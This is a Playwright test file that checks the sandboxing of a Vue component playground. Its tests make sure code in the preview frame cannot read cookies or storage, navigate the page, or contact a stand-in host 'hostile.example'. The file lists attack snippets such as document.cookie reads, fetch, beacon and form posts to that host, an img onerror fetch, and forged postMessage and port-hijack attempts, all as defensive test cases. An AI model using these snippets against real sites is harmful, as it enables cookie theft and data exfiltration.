import { createServer } from 'node:http'
import type { BrowserContext } from '@playwright/test'
import { editorOf, expect, frameOf, resultOf, sharedHash, test, untilReceived, write } from '../../pages/playgroundApp.ts'

const hostile = 'http://hostile.example'
const hostileCode = { type: 'view-site:code', source: '<template>HOSTILE</template>', locale: 'en-US' }

// The browser logs each attempt that it blocks. The cookie and storage item `secret` are what the attacks try to read.
test.use({ tolerated: /./, ownTraces: /^(?:cookie|localStorage) secret$/ })

/** Attempts of code to reach out of its frame, by name. */
const attempts = {
  cookies: 'document.cookie',
  'writing cookies': "(document.cookie = 'a=1')",
  'local storage': "localStorage.getItem('secret')",
  'session storage': "sessionStorage.getItem('secret')",
  'a database':
    "await new Promise((done, fail) => { const open = indexedDB.open('a'); open.onsuccess = done; open.onerror = () => fail(open.error) })",
  'a cache': "await caches.open('a')",
  'a worker for the site': "await navigator.serviceWorker.register('/sw.js')",
  'the document around': 'parent.document.body',
  'the storage around': 'parent.localStorage',
  'the address around': 'parent.location.href',
  'the element around': 'frameElement.ownerDocument',
  'leading the page away': `(top.location.href = '${hostile}/top')`,
  'replacing the page': `top.location.replace('${hostile}/top')`,
  'a window': `open('${hostile}/window').closed`,
  'a fetch': `await fetch('${hostile}/fetch')`,
  'a fetch of the own site': "await fetch('/index.html')",
  'a request': `await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = () => fail(new Error('refused')); r.open('GET', '${hostile}/xhr'); r.send() })`,
  'a socket': `await new Promise((done, fail) => { const s = new WebSocket('${hostile.replace('http', 'ws')}/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
  'a stream': `await new Promise((done, fail) => { const s = new EventSource('${hostile}/stream'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
  'a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error('refused')); i.src = '${hostile}/picture.png' })`,
  'a script': `await import('${hostile}/script.js')`,
  'code from text': "eval('1 + 1')",
  'a form': `await new Promise((done, fail) => { document.addEventListener('securitypolicyviolation', () => fail(new Error('refused'))); const f = document.createElement('form'); f.action = '${hostile}/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => done('without a violation'), 5000) })`,
  'a beacon': `await refused(() => navigator.sendBeacon('${hostile}/beacon', 'code'))`,
  'a worker': "await refused(() => new Worker(URL.createObjectURL(new Blob(['1']))))",
  'a frame': `await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '${hostile}/frame' })))`,
  'code in a nested frame': "document.body.appendChild(document.createElement('iframe')).contentDocument.body",
  'a frame of the own site':
    "await refused(() => document.body.append(Object.assign(document.createElement('iframe'), { src: window.name })))",
  'a sheet': `await refused(() => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${hostile}/sheet.css' })))`,
  'a picture in a style': `await refused(() => (document.body.style.background = 'url(${hostile}/style.png)'))`,
  'a prefetch': `await refused(() => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${hostile}/prefetch' })))`,
  'another base': `await refused(() => { document.querySelector('base').href = '${hostile}/'; if (document.baseURI.startsWith('${hostile}')) throw undefined })`,
  'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true })',
  'the clipboard': 'await navigator.clipboard.readText()',
}

/** Part of the attacking code: rejects once the browser reports a policy violation, and resolves without one. */
const refused = `function refused(act) {
  return new Promise((done, fail) => {
    document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')), { once: true })
    act()
    setTimeout(() => done('without a violation'), 5000)
  })
}`

test.describe('a browser with service workers', () => {
  test.use({ hasServiceWorkers: true })

  test('[PLUS-03] code in the frame reads no cookie, storage or document around it, and cannot navigate, open or fetch', async ({
    page,
    context,
    play,
    playground,
  }) => {
    const reached = await watchHostile(context)
    await context.addCookies([{ name: 'secret', value: 'of the page', url: playground }])
    await play()
    await page.evaluate(() => localStorage.setItem('secret', 'of the page'))
    const lines = Object.entries(attempts).map(
      ([name, code]) =>
        `  try { const got = ${code}; console.log('${name}: reached ' + String(got)) } catch (error) { console.log('${name}: stopped') }`,
    )
    await write(
      page,
      `<script setup>\n${refused}\nasync function attack() {\n${lines.join('\n')}\n  alert('hello')\n  console.log('end of attempts')\n}\n</script>\n<template><button @click="attack">attack</button></template>`,
    )
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const windows = context.pages().length
    await frameOf(page).getByRole('button', { name: 'attack' }).click()
    const log = page.getByRole('log')
    await expect(log).toContainText('end of attempts')
    const said = await log.locator('[data-level=log]').allInnerTexts()
    expect(said.slice(0, -1)).toEqual(Object.keys(attempts).map((name) => `${name}: stopped`))
    expect(reached).toEqual([])
    expect(dialogs).toEqual([])
    expect(context.pages()).toHaveLength(windows)
    expect(page.url()).toBe(`${playground}/`)
  })
})

test('[PLUS-03] links, forms and markup of a shared component stay in the frame, which is reset when it tries to navigate away', async ({
  page,
  context,
  play,
  playground,
}) => {
  const reached = await watchHostile(context)
  await play({
    source: `<template><a href="${hostile}/link">link</a> <a href="${hostile}/tab" target="_blank">tab</a> <a href="#below">below</a> <button @click="go">go</button></template>
<script>
export default { methods: { go: () => ((location.hash = '#here'), console.log('now at', location.hash)) } }
</script>`,
  })
  await frameOf(page).getByRole('link', { name: 'below' }).click()
  await frameOf(page).getByRole('button', { name: 'go' }).click()
  await expect(page.getByRole('log'), 'an anchor is not another document').toContainText('now at #here')
  await frameOf(page).getByRole('link', { name: 'link' }).click()
  await frameOf(page).getByRole('link', { name: 'tab' }).click()
  await expect(frameOf(page).getByRole('link', { name: 'link' })).toBeVisible()
  await expect(resultOf(page)).toHaveAttribute('data-phase', 'running')
  expect(context.pages()).toHaveLength(1)

  await play({ source: `<template><img src="x" onerror="fetch('${hostile}/inline')"><p>shown</p></template>` })
  await expect(frameOf(page).getByText('shown')).toBeVisible()
  expect(page.url()).toContain(`${playground}/${sharedHash({ source: '', locale: 'zh-CN' }).slice(0, 7)}`)

  await write(
    page,
    `<script setup>\nconst go = () => (location.href = '${hostile}/frame?code')\n</script>\n<template><button @click="go">go away</button></template>`,
  )
  await frameOf(page).getByRole('button', { name: 'go away' }).click()
  await expect(resultOf(page)).toHaveAttribute('data-phase', 'navigated')
  await write(page, '<template><p>here again</p></template>')
  await expect(frameOf(page).getByText('here again')).toBeVisible()
  expect(reached).toEqual([])
})

test('[PLUS-03] code from a hostile page that opened the playground is ignored', async ({ page, context, playground }) => {
  await watchHostile(context)
  await page.goto(`${hostile}/page`)
  const opened = page.waitForEvent('popup')
  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
  const popup = await opened
  await expect(editorOf(popup)).toBeVisible()
  await untilReceived(popup, () =>
    page.evaluate((code) => {
      const { target } = window as Window & { target?: Window }
      for (const message of [code, { ...code, type: 'view-site:frame-ready' }, 'end']) target?.postMessage(message, '*')
    }, hostileCode),
  )
  await expect(frameOf(popup).getByRole('button')).toBeVisible()
  await expect(editorOf(popup)).toContainText('view-ui-plus')
  await expect(popup.getByText('HOSTILE')).toHaveCount(0)
  await expect(frameOf(popup).getByText('HOSTILE')).toHaveCount(0)
})

test('[PLUS-03] code from a trusted page is accepted once, and only in the right shape', async ({ page, context, playground }) => {
  const neighbour = 'http://127.0.0.1:9009'
  await context.route(`${neighbour}/**`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>docs</title>' }))
  await page.goto(`${neighbour}/docs`)
  const opened = page.waitForEvent('popup')
  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
  const popup = await opened
  await expect(popup.getByRole('button', { name: '运行' })).toBeVisible()
  const right = { ...hostileCode, source: '<template><p>right</p></template>' }
  await untilReceived(popup, () =>
    page.evaluate(
      ([code, good]) => {
        const { target } = window as Window & { target?: Window }
        const wrong = [null, 'text', [code], { ...code, type: 'other' }, { ...code, source: 1 }, { ...code, locale: 'xx' }]
        for (const message of [...wrong, good, code, 'end']) target?.postMessage(message, '*')
      },
      [hostileCode, right] as const,
    ),
  )
  await expect(frameOf(popup).getByText('right')).toBeVisible()
  await expect(popup.locator('html')).toHaveAttribute('lang', 'en-US')
  await expect(editorOf(popup)).toHaveText('<template><p>right</p></template>')
})

test('[PLUS-03] the page ignores messages of hostile code in the frame, which cannot obtain the port by replacing built-in functions', async ({
  page,
  play,
}) => {
  await play()
  await write(
    page,
    `<script setup>
function send() {
  const channel = new MessageChannel()
  for (const message of [${JSON.stringify(hostileCode)}, { type: 'view-site:frame-ready' }, { type: 'log', run: 1, level: 'log', text: 'FORGED' }, { type: 'mounted', run: 1 }]) {
    parent.postMessage(message, '*', [])
  }
  parent.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
  parent.postMessage('end', '*')
}
</script>
<template><button @click="send">send</button></template>`,
  )
  const button = frameOf(page).getByRole('button', { name: 'send' })
  await expect(button).toBeVisible()
  await untilReceived(page, () => button.click())
  await expect(editorOf(page)).toContainText('function send')
  await expect(page.getByRole('log')).not.toContainText('FORGED')
  await expect(button, 'it is still the same frame').toBeVisible()

  await write(
    page,
    `<script setup>
const seen = []
const real = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...all) { seen.push(this); return real.apply(this, all) }
console.log('said')
console.log('caught', seen.length)
</script>
<template><p>works</p></template>`,
  )
  await expect(page.getByRole('log')).toContainText('caught 0')
  await expect(resultOf(page)).toHaveAttribute('data-phase', 'running')
})

test('[PLUS-03] no other site can embed the playground or its frame', async ({ page, playground, play }) => {
  const frame = page.waitForResponse(/\/assets\/frame-/)
  await play()
  const text = await frame
  expect(text.headers()['content-type'], 'browsers do not render it as a page').toMatch(/^text\/plain/)
  expect(text.headers()['x-content-type-options']).toBe('nosniff')
  // A real server, because the browser treats a mocked page as one of the internet, which may not access this machine at all.
  const server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>'))
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The hostile server has no port.')
  for (const src of [`${playground}/`, text.url()]) {
    await page.goto(`http://127.0.0.1:${address.port}/`)
    const stopped = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
    await page.evaluate((to) => document.body.append(Object.assign(document.createElement('iframe'), { src: to })), src)
    await stopped
    expect(page.frames().at(-1)?.url(), src).not.toContain(playground)
  }
  server.closeAllConnections()
  await new Promise((done) => server.close(done))
})

test('[PLUS-03] the frame accepts no port from a hostile page, even before its parent page has connected', async ({
  page,
  context,
  playground,
}) => {
  await watchHostile(context)
  // Hides the frame's ready message from its parent page, which therefore never connects: the hostile message comes first.
  await context.addInitScript(() => {
    addEventListener('message', (event) => event.data?.type === 'view-site:frame-ready' && event.stopImmediatePropagation())
  })
  await page.goto(`${hostile}/page`)
  const opened = page.waitForEvent('popup')
  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
  const popup = await opened
  await expect(popup.locator('[data-phase] iframe')).toBeAttached()
  const inner = popup.frames()[1]
  if (!inner) throw new Error('The frame did not load.')
  await inner.waitForSelector('#app', { state: 'attached' })
  await untilReceived(inner, () =>
    page.evaluate(() => {
      const { target } = window as Window & { target?: Window }
      const channel = new MessageChannel()
      const js = "export default { render: () => 'HOSTILE' }"
      channel.port1.postMessage({ type: 'run', run: 1, files: [{ name: 'App.vue', js }], css: '', locale: 'en-US', modules: [] })
      target?.frames[0]?.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
      target?.frames[0]?.postMessage('end', '*')
    }),
  )
  await expect(frameOf(popup).locator('#app')).toBeEmpty()
})

/** Serves the hostile site and returns the requests it receives, except for its own page. */
async function watchHostile(context: BrowserContext): Promise<string[]> {
  const reached: string[] = []
  await context.route(/^https?:\/\/hostile\.example\//, (route, request) => {
    if (!request.url().endsWith('/page')) reached.push(request.url())
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>hostile</title><body>' })
  })
  return reached
}
